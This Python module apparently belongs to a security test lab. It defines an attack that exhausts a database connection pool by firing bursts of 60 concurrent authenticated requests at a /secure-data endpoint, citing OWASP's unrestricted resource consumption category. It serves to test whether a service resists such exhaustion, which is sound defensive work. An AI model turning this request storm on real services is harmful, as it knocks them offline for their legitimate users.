"""Take every connection to the database.

Exploits a session that is held for a whole request: fifteen requests hold the connections and
wait for a thread, while all threads wait for a connection.
Source: OWASP API Security Top 10 2023, API4 Unrestricted Resource Consumption,
https://owasp.org/API-Security/editions/2023/en/0xa4-unrestricted-resource-consumption/
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.storms import storm
from attacks.lab.target import Target

ROUNDS, READERS = 3, 60


@attack(storm=True)
def run(target: Target) -> Outcome:
    """Read /secure-data many times at once with a good token, then see who was served."""
    token = target.token_of(target.enrol())
    headers = {"Authorization": f"Bearer {token}"}
    request = target.http.build_request("GET", "/secure-data", headers=headers)
    for _ in range(ROUNDS):
        if storm([request] * READERS, target.page()).unserved:
            return got_in(f"some of {READERS} readers at once are not served")
    return refused(f"{ROUNDS} times {READERS} readers at once: all served")
